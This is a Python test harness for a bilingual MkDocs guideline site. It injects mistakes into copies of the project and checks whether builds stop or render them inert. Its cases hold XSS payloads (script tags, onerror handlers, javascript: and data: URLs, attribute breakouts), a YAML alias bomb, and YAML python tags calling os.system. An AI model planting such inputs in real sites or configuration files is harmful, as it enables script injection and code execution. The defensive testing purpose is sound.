"""A corpus of mistakes and injections a maintainer could make, each built on a copy of this checkout.

Every case changes one source the way a maintainer might (a key written twice, an alias bomb, a `javascript:`
address, `<script>` in a text, a page without its twin, a date that does not exist, a file not saved as UTF-8...),
then builds the copy the way scripts/build.sh does (the preflight check, then `mkdocs build --strict`), with a
time limit, and prints per case:

- stopped (the build failed) or built; a built case is inert when nothing active (a script, an event handler, a
  `javascript:` link, a resource from another host) appeared in the site that the clean build does not have;
- whether the message names the file and a line, speaks Finnish and Swedish, shows a Python traceback;
- whether a failed build left the output folder as it was (a sentinel file is put there first);
- the time, on the clock and in CPU seconds (a build over a minute of CPU is bad).

Then a summary: handled well, weakly or badly, with counts. A mistake that must stop the build (lost text,
missing translation) and builds is bad; an injection may stop the build or render inert.

    .venv/bin/python scripts/mistake_corpus.py            # every case, two at a time
    .venv/bin/python scripts/mistake_corpus.py -k alias   # cases whose name contains "alias"
    .venv/bin/python scripts/mistake_corpus.py --list

It writes nothing into this checkout: each case works in a temporary folder.
"""

from __future__ import annotations

import argparse
import concurrent.futures
import dataclasses
import os
import re
import shutil
import subprocess
import sys
import tempfile
import time
from collections import Counter
from pathlib import Path
from typing import Callable

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "tests"))

from sitetools import PROJECT_PARTS as BUILD_PARTS, copy_project  # noqa: E402

# What a build reads; never .venv, node_modules or .git.
PROJECT_PARTS = BUILD_PARTS + ("scripts",)  # the build goes through scripts/build.sh
TIME_LIMIT = 120  # seconds on the clock; a case over a minute of CPU is bad anyway
SENTINEL = "the site published before"


# --- Cases -------------------------------------------------------------------------------------------------------

@dataclasses.dataclass
class Case:
    name: str
    cls: int  # the class of issue 11 it belongs to (1-8)
    change: Callable[[Path], None]
    file: str  # the file the message must name
    line: bool | str = True  # whether a line can be named; or the files (a|b) of which a line can be named
    expect: str = "stop"  # "stop": must stop; "inert": may stop or build inert; "build": must build


def replace(path: str, old: str, new: str, count: int = 1):
    def change(root: Path) -> None:
        file = root / path
        text = file.read_text(encoding="utf-8")
        if old not in text:
            raise LookupError(f"{path} no longer contains {old!r}")
        file.write_text(text.replace(old, new, count), encoding="utf-8")
    return change


def sub(path: str, pattern: str, new: str):
    """The first match of a regular expression (multiline) replaced."""
    def change(root: Path) -> None:
        file = root / path
        text = file.read_text(encoding="utf-8")
        changed, count = re.subn(pattern, new, text, count=1, flags=re.M)
        if not count:
            raise LookupError(f"{path} no longer matches {pattern!r}")
        file.write_text(changed, encoding="utf-8")
    return change


def append(path: str, addition: str):
    def change(root: Path) -> None:
        file = root / path
        file.write_text(file.read_text(encoding="utf-8") + addition, encoding="utf-8")
    return change


def write(path: str, content: bytes | str):
    def change(root: Path) -> None:
        file = root / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes(content.encode("utf-8") if isinstance(content, str) else content)
    return change


def recode(path: str, encoding: str, bom: bytes = b""):
    def change(root: Path) -> None:
        file = root / path
        file.write_bytes(bom + file.read_text(encoding="utf-8").encode(encoding, errors="replace"))
    return change


def delete(path: str):
    def change(root: Path) -> None:
        (root / path).unlink()
    return change


def both(*changes):
    def change(root: Path) -> None:
        for one in changes:
            one(root)
    return change


BOMB = ('a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n' + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},"
    f"*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)}]\n" for i in range(8)))
SCRIPT = "<script>alert(1)</script>"
IMG_HANDLER = '<img src=x onerror="alert(1)">'
Q = "quizzes/questions/security.yml"
SETTINGS = "quizzes/settings.yml"
CHECKLIST = "quizzes/checklist.yml"
ORG = "organization.yml"
CONFIG = "mkdocs.yml"
STRINGS = "hooks/guideline/strings.yml"
FI, SV = "docs/fi/interaction.md", "docs/sv/interaction.md"
FIRST_QUESTION_FI = "      fi: Lauantaiaamuna huomaat"
QUESTION_ID = "  - id: hijacked-account-posts-spam\n"


CASES = [
    # 1. Text silently lost: a key written twice.
    Case("quiz: second fi in a question", 1, replace(Q, FIRST_QUESTION_FI, "      fi: Toinen teksti.\n" + FIRST_QUESTION_FI), Q),
    Case("quiz: second questions block", 1, append(Q, "questions:\n  - id: extra\n    type: single\n"), Q),
    Case("settings: onboarding twice", 1, append(SETTINGS, "onboarding:\n  questions: 5\n"), SETTINGS),
    Case("checklist: text twice", 1, replace(CHECKLIST, "        text:\n", "        text: {fi: a, sv: b}\n        text:\n"), CHECKLIST),
    Case("organization: name twice", 1, append(ORG, "name:\n  fi: Toinen\n  sv: Annan\n"), ORG),
    Case("organization: email twice", 1, replace(ORG, "  email: viestinta", "  email: a@b.example\n  email: viestinta"), ORG),
    Case("mkdocs: site_url twice", 1, append(CONFIG, "site_url: https://other.example/\n"), CONFIG),
    Case("mkdocs: nav translation twice", 1, replace(CONFIG, "            Tekoäly: Artificiell intelligens\n",
                                                     "            Tekoäly: Artificiell intelligens\n            Tekoäly: AI\n"), CONFIG),
    Case("mkdocs: nav written twice", 1, append(CONFIG, "nav:\n  - Etusivu: index.md\n"), CONFIG),
    Case("strings: key twice", 1, append(STRINGS, "footer.accessibility:\n  fi: Toinen\n  sv: Annan\n"), STRINGS),
    Case("strings: sv twice in an entry", 1, replace(STRINGS, "  sv: Tillgänglighetsutlåtande\n",
                                                     "  sv: Tillgänglighetsutlåtande\n  sv: Annan\n"), STRINGS),
    # 2. Aliases, sizes, nesting.
    Case("quiz: alias bomb", 2, append(Q, BOMB), Q),
    Case("quiz: one alias", 2, both(replace(Q, "    question:\n      fi: Lauantai", "    question: &q\n      fi: Lauantai"),
                                    sub(Q, r"^    explanation:\n      fi: .*\n      sv: .*\n", "    explanation: *q\n")), Q),
    Case("quiz: merge key", 2, replace(Q, "    type: single\n", "    <<: {type: single}\n", 1), Q),
    Case("organization: alias bomb", 2, append(ORG, BOMB), ORG),
    Case("mkdocs: alias bomb", 2, append(CONFIG, "extra:\n" + "".join("  " + line + "\n" for line in BOMB.splitlines())), CONFIG),
    Case("strings: alias bomb", 2, append(STRINGS, BOMB), STRINGS),
    Case("quiz: text of 50 000 characters", 2, replace(Q, FIRST_QUESTION_FI, "      fi: " + "pitkä " * 9000 + "Lauantaiaamuna huomaat"), Q),
    Case("quiz: file of 11 MB", 2, append(Q, "# " + "x" * 11_000_000 + "\n"), Q, line=False),
    Case("page: file of 11 MB", 2, append(FI, "\n" + ("Tekstiä. " * 100 + "\n\n") * 12_000), FI, line=False),
    Case("quiz: nesting 5000 deep", 2, append(Q, "deep: " + "[" * 5000 + "]" * 5000 + "\n"), Q),
    Case("organization: nesting 5000 deep", 2, append(ORG, "deep: " + "{a: " * 5000 + "1" + "}" * 5000 + "\n"), ORG),
    # 3. Settings and UI texts as markup, addresses.
    Case("organization: markdown javascript link in name", 3, replace(ORG, "  fi: Esimerkkikaupunki\n", "  fi: '[Esimerkkikaupunki](javascript:alert(1))'\n"), ORG, expect="inert"),
    Case("organization: script in name", 3, replace(ORG, "  fi: Esimerkkikaupunki\n", f"  fi: '{SCRIPT}'\n"), ORG, expect="inert"),
    Case("organization: event handler in role", 3, replace(ORG, "    fi: viestintäyksikkö\n", f"    fi: '{IMG_HANDLER}'\n"), ORG, expect="inert"),
    Case("organization: javascript channel url", 3, replace(ORG, "url: https://www.facebook.com/esimerkkikaupunki.example", "url: javascript:alert(1)"), ORG),
    Case("organization: http channel url", 3, replace(ORG, "url: https://www.facebook.com/", "url: http://www.facebook.com/"), ORG),
    Case("organization: supervisor url javascript", 3, replace(ORG, "fi: https://www.saavutettavuusvaatimukset.fi/", "fi: javascript:alert(1)"), ORG),
    Case("organization: supervisor url data", 3, replace(ORG, "sv: https://www.tillganglighetskrav.fi/", "sv: 'data:text/html,<script>alert(1)</script>'"), ORG),
    Case("organization: email breaks out", 3, replace(ORG, "email: viestinta@esimerkkikaupunki.example", "email: 'a@b.example\"><script>alert(1)</script>'"), ORG),
    Case("organization: version with markup", 3, replace(ORG, 'guideline_version: "1.0"', "guideline_version: '<b>1</b>'"), ORG),
    Case("organization: channel name with markup", 3, replace(ORG, 'name: "@esimerkkikaupunki"', f"name: '{IMG_HANDLER}'"), ORG, expect="inert"),
    Case("organization: supervisor name with script", 3, replace(ORG, "fi: Lupa- ja valvontavirasto,", f"fi: {SCRIPT} Lupa- ja valvontavirasto,"), ORG, expect="inert"),
    Case("strings: script in footer", 3, replace(STRINGS, "  fi: Saavutettavuusseloste\n", f"  fi: '{SCRIPT}'\n"), STRINGS, expect="inert"),
    Case("strings: markdown link in a button", 3, replace(STRINGS, "  fi: Pysyvä linkki tähän kohtaan\n", "  fi: '[x](javascript:alert(1))'\n"), STRINGS, expect="inert"),
    Case("strings: handler in example notice", 3, replace(STRINGS, "  fi: Esimerkkiorganisaatio\n", f"  fi: '{IMG_HANDLER}'\n"), STRINGS, expect="inert"),
    Case("mkdocs: script in site_name", 3, replace(CONFIG, "site_name: Sosiaalisen median ohje", f"site_name: '{SCRIPT}'"), CONFIG, expect="inert"),
    Case("mkdocs: description breaks the attribute", 3, replace(CONFIG, "site_description: Kaupungin", "site_description: '\"><script>alert(1)</script>' Kaupungin"), CONFIG, expect="inert"),
    Case("mkdocs: description ends the attribute", 3, sub(CONFIG, r"^site_description: .*$", "site_description: '\"><img src=x onerror=alert(1)> Kaupungin ohje'"), CONFIG, expect="inert"),
    Case("mkdocs: sv site_name with handler", 3, replace(CONFIG, "site_name: Riktlinjer för sociala medier", f"site_name: '{IMG_HANDLER}'"), CONFIG, expect="inert"),
    Case("mkdocs: palette toggle name breaks out", 3, replace(CONFIG, "name: Vaihda tummaan teemaan", "name: '\"><img src=x onerror=alert(1)>'"), CONFIG, expect="inert"),
    Case("mkdocs: copyright with script", 3, replace(CONFIG, 'copyright: ""', f"copyright: '{SCRIPT}'"), CONFIG, expect="inert"),
    Case("mkdocs: nav title with handler", 3, replace(CONFIG, "  - Etusivu: index.md", f"  - '{IMG_HANDLER}': index.md"), CONFIG, expect="inert"),
    Case("mkdocs: nav translation with script", 3, replace(CONFIG, "Etusivu: Startsida", f"Etusivu: '{SCRIPT}'"), CONFIG, expect="inert"),
    Case("mkdocs: nav translation ends the title", 3, replace(CONFIG, "Etusivu: Startsida", "Etusivu: '</title><script>alert(1)</script>'"), CONFIG, expect="inert"),
    Case("page: heading with escaped markup", 3, sub("docs/fi/ai.md", r"^# .*$", "# Tekoäly &lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;"), "docs/fi/ai.md", expect="inert"),
    Case("page: attr_list onclick", 4, append(FI, '\nKlikkaa tästä.\n{: onclick="alert(1)" }\n'), FI),
    Case("page: attr_list external image", 4, append(FI, '\n![kuva](x.png){: srcset="https://cdn.example.org/x.png 2x" }\n'), FI),
    Case("page: 3000 nested quotes", 2, append(FI, "\n" + ">" * 3000 + " syvä\n"), FI, expect="inert"),
    Case("page: 500 nested lists", 2, append(FI, "\n" + "".join("    " * i + "- a\n" for i in range(500))), FI, expect="inert"),
    Case("mkdocs: python tag runs code", 6, append(CONFIG, "extra:\n  x: !!python/object/apply:builtins.print ['corpus-ran-code']\n"), CONFIG),
    Case("mkdocs: site_url javascript", 3, replace(CONFIG, "site_url: https://ohje.esimerkkikaupunki.example/", "site_url: javascript:alert(1)//"), CONFIG),
    Case("mkdocs: site_url http", 3, replace(CONFIG, "site_url: https://", "site_url: http://"), CONFIG),
    Case("mkdocs: extra homepage javascript", 3, append(CONFIG, "extra:\n  homepage: javascript:alert(1)\n"), CONFIG),
    Case("quiz: script in a question", 3, replace(Q, FIRST_QUESTION_FI, f"      fi: {SCRIPT} Lauantaiaamuna huomaat"), Q, expect="inert"),
    Case("quiz: javascript link in feedback", 3, replace(Q, "          fi: Vastausajat koskevat", "          fi: '[katso](javascript:alert(1))' Vastausajat koskevat"), Q, expect="inert"),
    Case("checklist: handler in a title", 3, replace(CHECKLIST, "      fi: Ennen kuin avaat tilin\n", f"      fi: '{IMG_HANDLER}'\n"), CHECKLIST, expect="inert"),
    # 4. Another host, active content in pages.
    Case("page: script", 4, append(FI, f"\n{SCRIPT}\n"), FI),
    Case("page: SCRIPT in capitals", 4, append(FI, "\n<SCRIPT>alert(1)</SCRIPT>\n"), FI),
    Case("page: iframe from another host", 4, append(FI, '\n<iframe src="https://www.youtube.com/embed/x"></iframe>\n'), FI),
    Case("page: markdown image from another host", 4, append(FI, "\n![kuva](https://cdn.example.org/x.png)\n"), FI),
    Case("page: reference image from another host", 4, append(FI, "\n![kuva][k]\n\n[k]: https://cdn.example.org/x.png\n"), FI),
    Case("page: protocol-relative img", 4, append(FI, '\n<img src="//cdn.example.org/x.png" alt="x">\n'), FI),
    Case("page: srcset from another host", 4, append(FI, '\n<img src="logo.svg" srcset="https://cdn.example.org/x.png 2x" alt="x">\n'), FI),
    Case("page: onclick", 4, append(FI, '\n<span onclick="alert(1)">x</span>\n'), FI),
    Case("page: svg onload", 4, append(FI, "\n<svg onload=alert(1)></svg>\n"), FI),
    Case("page: javascript link", 4, append(FI, "\n[klikkaa](javascript:alert(1))\n"), FI),
    Case("page: entity-encoded javascript href", 4, append(FI, '\n<a href="jav&#x61;script:alert(1)">x</a>\n'), FI),
    Case("page: data link", 4, append(FI, "\n[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)\n"), FI),
    Case("page: stylesheet from another host", 4, append(FI, '\n<link rel="stylesheet" href="https://cdn.example.org/x.css">\n'), FI),
    Case("page: style url", 4, append(FI, '\n<div style="background: url(https://cdn.example.org/x.png)">x</div>\n'), FI),
    Case("page: form to another host", 4, append(FI, '\n<form action="https://evil.example/"><input name=a></form>\n'), FI),
    Case("page: object", 4, append(FI, '\n<object data="https://evil.example/x.swf"></object>\n'), FI),
    Case("page: md_in_html iframe", 4, append(FI, '\n<div markdown>\n<iframe src="https://evil.example/"></iframe>\n</div>\n'), FI),
    Case("page: script after an empty comment", 4, append(FI, "\n<!--><script>alert(1)</script>-->\n"), FI),
    Case("page: handler after a comment ended --!>", 4, append(FI, "\nTeksti <!-- x --!><img src=x onerror=alert(1)> -->\n"), FI),
    Case("page: javascript link with a newline", 4, append(FI, '\n<a href="java&#x0A;script:alert(1)">x</a>\n'), FI),
    Case("page: attr_list javascript href", 4, append(FI, '\n[x](#){: href="javascript:alert(1)" }\n'), FI),
    Case("page: meta refresh", 4, append(FI, '\n<meta http-equiv="refresh" content="0;url=https://evil.example/">\n'), FI),
    Case("page: svg use from another host", 4, append(FI, '\n<svg><use href="https://evil.example/i.svg#a"></use></svg>\n'), FI),
    Case("page: link with a ping", 4, append(FI, '\n<a href="purpose.md" ping="https://tracker.example/">x</a>\n'), FI),
    Case("page: autolink javascript", 4, append(FI, "\n<javascript:alert(1)>\n"), FI, expect="inert"),
    # 5. Markers and twins.
    Case("page: marker with a space", 5, replace("docs/fi/index.md", "<!-- org:", "<!-- org: "), "docs/fi/index.md"),
    Case("page: unclosed marker", 5, append("docs/fi/index.md", "\n<!-- org:approval --\n"), "docs/fi/index.md"),
    Case("page: unknown marker", 5, append("docs/fi/index.md", "\nTeksti <!-- org:nmae --> tässä.\n"), "docs/fi/index.md"),
    Case("page: marker in capitals", 5, append("docs/fi/index.md", "\nTeksti <!-- ORG:name --> tässä.\n"), "docs/fi/index.md"),
    Case("page: marker in fi only", 5, append(FI, "\nYhteys: <!-- org:contact -->.\n"), FI),
    Case("page: block marker inside a sentence", 5, append(FI, "\nKatso <!-- org:channels --> tästä.\n"), FI),
    Case("page: rule anchor in sv renamed", 5, replace(SV, "{#respond-quickly}", "{#reply-quickly}"), SV),
    Case("page: rule heading in fi only", 5, append(FI, "\n## Uusi sääntö {#new-rule}\n\nTeksti.\n"), FI),
    Case("page: sv twin missing", 5, delete("docs/sv/ai.md"), "docs/sv/ai.md", line=False),
    Case("page: sv only page", 5, write("docs/sv/extra.md", "# Extra\n\nText.\n"), "docs/fi/extra.md", line=False),
    Case("page: empty page", 5, write("docs/fi/ai.md", ""), "docs/fi/ai.md", line=False),
    # 6. What MkDocs parses first, tracebacks, English.
    Case("mkdocs: yaml syntax error", 6, replace(CONFIG, "site_name: Sosiaalisen median ohje", "site_name: 'Sosiaalisen median ohje"), CONFIG),
    Case("mkdocs: tab indentation", 6, replace(CONFIG, "  name: material", "\tname: material"), CONFIG),
    Case("mkdocs: impossible date in extra", 6, append(CONFIG, "extra:\n  updated: 2026-02-30\n"), CONFIG),
    Case("mkdocs: unknown key", 6, append(CONFIG, "sitename: Ohje\n"), CONFIG),
    Case("mkdocs: not utf-8", 6, recode(CONFIG, "latin-1"), CONFIG),
    Case("mkdocs: empty file", 6, write(CONFIG, ""), CONFIG, line=False),
    Case("mkdocs: nav entry to a missing file", 6, replace(CONFIG, "      - Tekoäly: ai.md", "      - Tekoäly: ai-tools.md"), CONFIG),
    Case("mkdocs: nav entry to a missing quiz", 6, replace(CONFIG, "      - quizzes/ai.md\n", "      - quizzes/ai.md\n      - quizzes/cooking.md\n"), CONFIG),
    Case("mkdocs: page left out of nav", 6, replace(CONFIG, "  - Saavutettavuusseloste: accessibility.md\n", ""), CONFIG),
    Case("mkdocs: sv language removed", 6, replace(CONFIG, "        - locale: sv\n          name: På svenska\n          build: true\n", "        - locale: sv\n          name: På svenska\n          build: false\n"), CONFIG),
    Case("mkdocs: analytics from another host", 6, append(CONFIG, "extra:\n  analytics:\n    provider: google\n    property: G-XXXXXXX\n"), CONFIG),
    Case("mkdocs: extra_javascript from another host", 6, append(CONFIG, "extra_javascript:\n  - https://cdn.example.org/x.js\n"), CONFIG),
    Case("page: broken link", 6, append(FI, "\n[katso](missing-page.md)\n"), FI),
    Case("page: broken anchor", 6, append(FI, "\n[katso](security.md#no-such-rule)\n"), FI),
    Case("page: absolute link", 6, append(FI, "\n[katso](/purpose/)\n"), FI),
    Case("page: link to a folder", 6, append(FI, "\n[katso](purpose/)\n"), FI),
    Case("page: page outside the language folders", 6, write("docs/notes.md", "# Muistiinpanot\n\nTeksti.\n"), "docs/notes.md", line=False),
    Case("page: a .markdown page", 6, write("docs/fi/notes.markdown", "# Muistiinpanot\n\nTeksti.\n"), "docs/fi/notes.markdown", line=False),
    Case("page: link to a missing image", 6, append(FI, "\n![kaavio](images/missing.png)\n"), FI),
    Case("page: not utf-8", 6, recode(FI, "latin-1"), FI),
    Case("page: utf-16", 6, recode(FI, "utf-16"), FI),
    Case("page: with a BOM", 6, recode(FI, "utf-8", b"\xef\xbb\xbf"), FI, expect="build"),
    Case("strings: key the templates need removed", 6, replace(STRINGS, "footer.version:\n  fi: Ohjeen versio {version}, hyväksytty {date}\n  sv: Riktlinjernas version {version}, godkänd {date}\n", ""), STRINGS, line=False),
    Case("strings: placeholder the footer lacks", 6, replace(STRINGS, "  fi: Ohjeen versio {version}, hyväksytty {date}", "  fi: Ohjeen versio {version}, hyväksytty {date} {author}"), STRINGS),
    Case("strings: unbalanced brace", 6, replace(STRINGS, "  fi: Ohjeen versio {version}, hyväksytty {date}", "  fi: Ohjeen versio {version, hyväksytty {date}"), STRINGS),
    Case("strings: file missing", 6, delete(STRINGS), STRINGS, line=False),
    Case("strings: not utf-8", 6, recode(STRINGS, "latin-1"), STRINGS),
    Case("strings: tab indentation", 6, replace(STRINGS, "  fi: Saavutettavuusseloste", "\tfi: Saavutettavuusseloste"), STRINGS),
    Case("organization: impossible date", 6, replace(ORG, "date: 2026-10-12", "date: 2026-02-30"), ORG),
    Case("organization: date written the Finnish way", 6, replace(ORG, "date: 2026-10-12", "date: 12.10.2026"), ORG),
    Case("organization: file missing", 6, delete(ORG), ORG, line=False),
    Case("organization: empty file", 6, write(ORG, ""), ORG, line=False),
    Case("organization: tab indentation", 6, replace(ORG, "  fi: Esimerkkikaupunki\n", "\tfi: Esimerkkikaupunki\n"), ORG),
    Case("organization: unknown key", 6, append(ORG, "logo: logo.svg\n"), ORG),
    Case("organization: phone with letters", 6, replace(ORG, "phone: 010 000 0000", "phone: call us"), ORG),
    Case("organization: no channels", 6, replace(ORG, "channels:\n  - service: Facebook", "channels: []\nold_channels:\n  - service: Facebook"), ORG),
    Case("organization: utf-8 with BOM", 6, recode(ORG, "utf-8", b"\xef\xbb\xbf"), ORG, expect="build"),
    Case("quiz: tab indentation", 6, replace(Q, "    type: single\n", "\ttype: single\n", 1), Q),
    Case("quiz: not utf-8", 6, recode(Q, "latin-1"), Q),
    Case("quiz: utf-16", 6, recode(Q, "utf-16"), Q),
    Case("quiz: empty file", 6, write(Q, ""), Q, line=False),
    Case("quiz: control character", 6, replace(Q, FIRST_QUESTION_FI, "      fi: Lauantai\x07aamuna huomaat"), Q),
    Case("quiz: python tag", 6, replace(Q, "    type: single\n", "    type: !!python/name:os.system single\n", 1), Q),
    Case("quiz: correct is a word", 6, replace(Q, "        correct: false\n", "        correct: ehkä\n", 1), Q),
    Case("quiz: unknown type", 6, replace(Q, "    type: single\n", "    type: multi\n", 1), Q),
    Case("quiz: unknown field", 6, replace(Q, "    type: single\n", "    type: single\n    hint: {fi: a, sv: b}\n", 1), Q),
    Case("quiz: id with spaces", 6, replace(Q, QUESTION_ID, "  - id: Hijacked account\n"), Q),
    Case("quiz: same id twice", 6, sub("quizzes/questions/crisis.yml", r"^  - id: .*$", "  - id: hijacked-account-posts-spam"), Q + "|quizzes/questions/crisis.yml", line=Q),
    Case("quiz: see to a missing anchor", 6, replace(Q, "see: security.md#", "see: security.md#x", 1), Q),
    Case("quiz: see to a missing page", 6, replace(Q, "see: security.md#", "see: safety.md#", 1), Q),
    Case("quiz: questions is text", 6, replace(Q, "questions:\n", "questions: kysymykset\nold:\n", 1), Q),
    Case("settings: pass mark 180", 6, replace(SETTINGS, "pass_mark: 80", "pass_mark: 180"), SETTINGS),
    Case("settings: questions as a word", 6, replace(SETTINGS, "questions: 20", "questions: twenty"), SETTINGS),
    Case("settings: file missing", 6, delete(SETTINGS), SETTINGS, line=False),
    Case("checklist: see to a missing anchor", 6, replace(CHECKLIST, "see: channels.md#plan-before-opening", "see: channels.md#plan"), CHECKLIST),
    Case("checklist: file missing", 6, delete(CHECKLIST), CHECKLIST, line=False),
    # 7. One mistake hides the next: each case has two mistakes in two files; both files must be named.
    Case("mkdocs syntax + quiz mistake", 7, both(replace(CONFIG, "site_name: Sosiaalisen median ohje", "site_name: 'Sosiaalisen"),
                                                 replace(Q, "    type: single\n", "    type: multi\n", 1)), CONFIG + "|" + Q),
    Case("mkdocs unknown key + page script", 7, both(append(CONFIG, "sitename: Ohje\n"), append(FI, f"\n{SCRIPT}\n")), CONFIG + "|" + FI),
    Case("mkdocs bad date + organization mistake", 7, both(append(CONFIG, "extra:\n  updated: 2026-02-30\n"),
                                                           replace(ORG, "date: 2026-10-12", "date: 2026-02-30")), CONFIG + "|" + ORG),
    Case("missing twin + quiz mistake", 7, both(delete("docs/sv/crisis.md"), replace(Q, "    type: single\n", "    type: multi\n", 1)), "docs/sv/crisis.md|" + Q, line=Q),
    Case("strings key missing + page marker", 7, both(replace(STRINGS, "footer.version:\n  fi: Ohjeen versio {version}, hyväksytty {date}\n  sv: Riktlinjernas version {version}, godkänd {date}\n", ""),
                                                      append("docs/fi/index.md", "\n<!-- org:nmae -->\n")), STRINGS + "|docs/fi/index.md", line="docs/fi/index.md"),
    Case("mkdocs alias + checklist mistake", 7, both(append(CONFIG, "extra:\n  a: &a x\n  b: *a\n"), replace(CHECKLIST, "see: channels.md#plan-before-opening", "see: channels.md#plan")), CONFIG + "|" + CHECKLIST),
    # 8. Missing translations.
    Case("mkdocs: nav title without sv", 8, replace(CONFIG, "            Tekoäly: Artificiell intelligens\n", ""), CONFIG),
    Case("mkdocs: new section without sv", 8, replace(CONFIG, "  - Huoneentaulu: poster.md\n", "  - Tulosteet:\n      - Huoneentaulu: poster.md\n"), CONFIG),
    Case("mkdocs: empty sv translation", 8, replace(CONFIG, "Tekoäly: Artificiell intelligens", "Tekoäly: ''"), CONFIG),
    Case("mkdocs: translation of a title not in nav", 8, replace(CONFIG, "Tekoäly: Artificiell intelligens", "Tekoäly: Artificiell intelligens\n            Tekoly: AI"), CONFIG, expect="inert"),
    Case("strings: sv missing", 8, replace(STRINGS, "  sv: Tillgänglighetsutlåtande\n", ""), STRINGS),
    Case("strings: sv empty", 8, replace(STRINGS, "  sv: Tillgänglighetsutlåtande\n", "  sv: ''\n"), STRINGS),
    Case("strings: fi and sv the same placeholders missing", 8, replace(STRINGS, '  sv: "Frågor och respons: {contact}"', '  sv: "Frågor och respons"'), STRINGS),
    Case("organization: sv name missing", 8, replace(ORG, "  sv: Exempelstad\n", ""), ORG),
    Case("organization: sv role empty", 8, replace(ORG, "    sv: kommunikationsenheten\n", "    sv: ''\n"), ORG),
    Case("organization: sv address missing", 8, replace(ORG, "  sv: https://www.esimerkkikaupunki.example/sv/sociala-medier\n", ""), ORG),
    Case("quiz: sv missing", 8, sub(Q, r"^      sv: En lördagsmorgon.*\n", ""), Q),
    Case("checklist: sv missing", 8, replace(CHECKLIST, "      sv: Innan du öppnar ett konto\n", ""), CHECKLIST),
    Case("page: sv page without title", 8, sub("docs/sv/ai.md", r"^# ", ""), "docs/sv/ai.md"),
]


# --- Building a case ---------------------------------------------------------------------------------------------

def build_steps(project: Path, site: Path) -> list[list[str]]:
    """What scripts/build.sh runs, with this interpreter: the preflight check (when the checkout has one), then
    `mkdocs build --strict` into the given folder."""
    steps = []
    if (project / "hooks" / "guideline" / "adapter" / "preflight.py").exists():
        steps.append([sys.executable, "-m", "guideline.adapter.preflight", "--config-file", str(project / "mkdocs.yml")])
    steps.append([sys.executable, "-m", "mkdocs", "build", "--strict", "--config-file", str(project / "mkdocs.yml"),
                  "--site-dir", str(site)])
    return steps


@dataclasses.dataclass
class Outcome:
    case: Case
    stopped: bool = False
    timeout: bool = False
    output: str = ""
    seconds: float = 0.0
    cpu: float = 0.0
    active: list[str] = dataclasses.field(default_factory=list)
    site_intact: bool = True
    error: str = ""

    def named(self, file: str) -> bool:
        return file in self.output

    def lined(self, file: str) -> bool:
        return re.search(re.escape(file) + r"(, rivi \d+ / rad \d+|:\d+)", self.output) is not None

    def needs_line(self, file: str) -> bool:
        line = self.case.line
        return file in line.split("|") if isinstance(line, str) else line

    @property
    def files(self) -> list[str]:
        return self.case.file.split("|")

    @property
    def bilingual(self) -> bool:
        """Messages in both languages, none of them a bare message key (what is shown when the text is missing)."""
        if re.search(r"^\s+(fi|sv): [a-z_]+\.[\w.-]+ \{", self.output, re.M):
            return False
        return re.search(r"^\s+fi: \S", self.output, re.M) is not None and re.search(r"^\s+sv: \S", self.output, re.M) is not None

    @property
    def traceback(self) -> bool:
        return "Traceback (most recent call last)" in self.output

    def verdict(self) -> tuple[str, list[str]]:
        """well / weak / bad, and why."""
        case, why = self.case, []
        if self.error:
            return "bad", [self.error]
        if self.timeout:
            return "bad", [f"over {TIME_LIMIT} s"]
        if self.traceback:
            why.append("traceback")
        if self.cpu > 60:
            why.append("over a minute of CPU")
        if not self.stopped:
            if case.expect == "stop":
                return "bad", why + ["built: the mistake passed"]
            if self.active:
                return "bad", why + ["active: " + "; ".join(self.active[:3])]
            return ("bad" if why else "well"), why
        if case.expect == "build":
            return "bad", why + ["stopped a valid source"]
        if not self.site_intact:
            why.append("output folder changed")
        if why:
            return "bad", why
        for file in self.files:
            if not self.named(file):
                why.append(f"{file} not named")
            elif self.needs_line(file) and not self.lined(file):
                why.append(f"no line for {file}")
        if not self.bilingual:
            why.append("not fi+sv")
        return ("weak" if why else "well"), why


def run_step(command: list[str], cwd: Path, env: dict, limit: float) -> tuple[int | None, str, float]:
    """Run one command with a time limit: its exit status (None when it ran out of time), its output, and the CPU
    seconds it used (this machine is shared, so the wall time says little about the build itself)."""
    with tempfile.TemporaryFile() as output:
        process = subprocess.Popen(command, cwd=cwd, env=env, stdout=output, stderr=subprocess.STDOUT)
        deadline = time.monotonic() + max(limit, 1)
        while True:
            pid, status, usage = os.wait4(process.pid, os.WNOHANG)
            if pid:
                break
            if time.monotonic() > deadline:
                process.kill()
                pid, status, usage = os.wait4(process.pid, 0)
                status = None
                break
            time.sleep(0.05)
        process.returncode = 0  # reaped above: keep Popen from waiting for it again
        output.seek(0)
        text = output.read().decode("utf-8", errors="replace")
    code = None if status is None else os.waitstatus_to_exitcode(status)
    return code, text, usage.ru_utime + usage.ru_stime


def run_case(case: Case, baseline: dict[str, Counter] | None) -> Outcome:
    outcome = Outcome(case)
    with tempfile.TemporaryDirectory(prefix="corpus-") as folder:
        project = copy_project(Path(folder) / "project", PROJECT_PARTS)
        try:
            case.change(project)
        except Exception as error:  # the corpus no longer fits the checkout
            outcome.error = f"could not apply: {error}"
            return outcome
        site = Path(folder) / "site"
        site.mkdir()
        (site / "index.html").write_text(SENTINEL, encoding="utf-8")
        env = {**os.environ, "NO_MKDOCS_2_WARNING": "1", "PYTHONPATH": str(project / "hooks")}
        started = time.monotonic()
        for step in build_steps(project, site):
            returncode, output, cpu = run_step(step, project, env, started + TIME_LIMIT - time.monotonic())
            outcome.output += output
            outcome.cpu += cpu
            if returncode is None:
                outcome.timeout = True
                break
            if returncode != 0:
                outcome.stopped = True
                break
        outcome.seconds = time.monotonic() - started
        if outcome.stopped or outcome.timeout:
            files = [path for path in site.rglob("*") if path.is_file()]
            outcome.site_intact = (len(files) == 1 and (site / "index.html").exists()
                                   and (site / "index.html").read_text(encoding="utf-8", errors="replace") == SENTINEL)
        elif baseline is not None:
            outcome.active = active_difference(baseline, active_content(site))
    return outcome


# --- What is active in a built site ------------------------------------------------------------------------------

